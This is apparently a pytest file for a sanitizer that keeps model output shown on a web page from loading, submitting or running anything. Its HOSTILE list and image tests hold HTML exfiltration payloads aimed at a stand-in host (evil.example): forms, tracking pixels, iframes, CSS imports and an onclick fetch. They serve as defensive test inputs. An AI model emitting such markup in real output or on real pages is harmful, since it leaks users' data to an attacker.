"""What model output may do on the page: format text, never load, submit or run anything."""

from __future__ import annotations

import re

import pytest
from llamaberry_ui.sanitize import safe_markdown
from llamaberry_ui.views import RunView

from llamaberry.core.events import CallStarted, RunStarted, TextDelta

HOSTILE = [
    '<form action="https://evil.example/steal"><input name="q" value="secret"></form>',
    '<img src="https://evil.example/pixel.png?data=secret">',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<button formaction="https://evil.example/">go</button>',
    '<textarea name="t"></textarea><select name="s"></select>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/s.css">',
    "<style>@import url(https://evil.example/i.css);</style>",
    '<video poster="https://evil.example/p.png"></video><audio src="https://evil.example/a">',
    '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
    '<svg><image href="https://evil.example/s.png"/></svg>',
    "<!-- a comment --><?php echo 1 ?><!DOCTYPE html>",
    '<b onclick="fetch(`https://evil.example/`)">bold</b>',
]


def tags(html_ish: str) -> list[str]:
    """The names of the raw tags that survive (what a renderer would turn into elements)."""
    return [t.lower() for t in re.findall(r"<\s*/?\s*([A-Za-z][A-Za-z0-9]*)", html_ish)]


@pytest.mark.parametrize("payload", HOSTILE)
def test_no_tag_that_can_load_submit_or_run_survives(payload: str):
    safe = safe_markdown(f"Here you go:\n\n{payload}\n\nDone.")
    assert set(tags(safe)) <= {"b", "code"}, safe
    assert "<b " not in safe  # a harmless tag keeps no attributes


def test_markdown_images_become_links_the_reader_may_click():
    safe = safe_markdown('See ![a chart](https://evil.example/c.png?d=secret "t") here.')
    assert safe == "See [image: a chart](https://evil.example/c.png?d=secret) here."


def test_reference_style_and_leftover_images_are_not_images():
    safe = safe_markdown("![logo][1]\n\n[1]: https://evil.example/l.png")
    assert "![" not in safe


def test_harmless_formatting_tags_are_kept():
    text = "a<br>b <b>bold</b> <sub>2</sub> <em>x</em>"
    assert safe_markdown(text) == text


def test_comparisons_and_plain_text_are_untouched():
    text = "If x < 3 and y > 2, then 2<3; **bold** and *it* stay. 5 > 4."
    assert safe_markdown(text) == text


def test_a_fenced_block_is_left_verbatim():
    text = 'Code:\n\n```html\n<form action="/x"><input></form>\n```\n\nAfter <form>.'
    safe = safe_markdown(text)
    assert '```html\n<form action="/x"><input></form>\n```' in safe
    assert safe.endswith("After &lt;form>.")


def test_a_fence_that_never_closes_stays_code_to_the_end_and_is_closed_there():
    assert safe_markdown("```\n<form>") == "```\n<form>\n```"
    # So text the page puts after it cannot be what closes it.
    assert safe_markdown("````\n<form>\n```") == "````\n<form>\n```\n````"


def test_line_ends_are_read_as_the_renderer_reads_them():
    # marked ends a line at \r\n and at a lone \r: a fence closed there is closed.
    for end in ("\r\n", "\r"):
        safe = safe_markdown(end.join(["```", "x", "```", "<form action=x>"]))
        assert safe == "```\nx\n```\n&lt;form action=x>", repr(end)


def test_text_is_read_after_gradio_dedents_it_and_expands_its_tabs():
    # gradio's cleandoc removes the indent the lines after the first share, and turns a tab
    # after a closing fence into spaces: both make a fence marked closes.
    assert safe_markdown("```\n    x\n    ```\n    <form>").endswith("```\n&lt;form>")
    assert safe_markdown("```\nx\n```\t\n<form>").endswith("&lt;form>")


def test_html_after_a_fence_that_marked_closes_is_escaped():
    # marked closes a ``` fence on a line of backticks followed by tildes; so must we.
    safe = safe_markdown("```\ncode\n```~~\n<form action=x>")
    assert safe.endswith("&lt;form action=x>")


def test_an_indented_fence_is_not_trusted():
    # In a list item the fence ends with the item; its contents are escaped, not trusted.
    safe = safe_markdown("- item\n  ```\n  code\n<form action=x>\n  ```")
    assert "<form" not in safe


def test_inline_code_shows_its_text_but_nothing_in_it_is_markup():
    safe = safe_markdown("Use `<img src=x>` or `a*b*c` or `` a ` b ``.")
    assert "<img" not in safe and "*" not in safe.split("or")[1]
    assert safe.count("<code>") == 3


def test_an_escaped_backtick_cannot_smuggle_html_past_the_code_rule():
    safe = safe_markdown("\\`<form action=x>`")
    assert "<form" not in safe


def test_every_section_of_the_page_is_sanitized():
    view = RunView()
    view.apply(RunStarted(run_id="r", mode="single", model="m", question="q"))
    view.apply(CallStarted(kind="answer", index=1))
    view.apply(TextDelta(kind="answer", index=1, text=HOSTILE[0]))
    view.answer = HOSTILE[1]
    shown = [view.messages()[0]["content"], view.answer_markdown(), view.live_markdown()]
    view.fail(HOSTILE[2])
    shown.append(view.error_markdown())
    for text in shown:
        assert not set(tags(text)) - {"b", "code"}, text
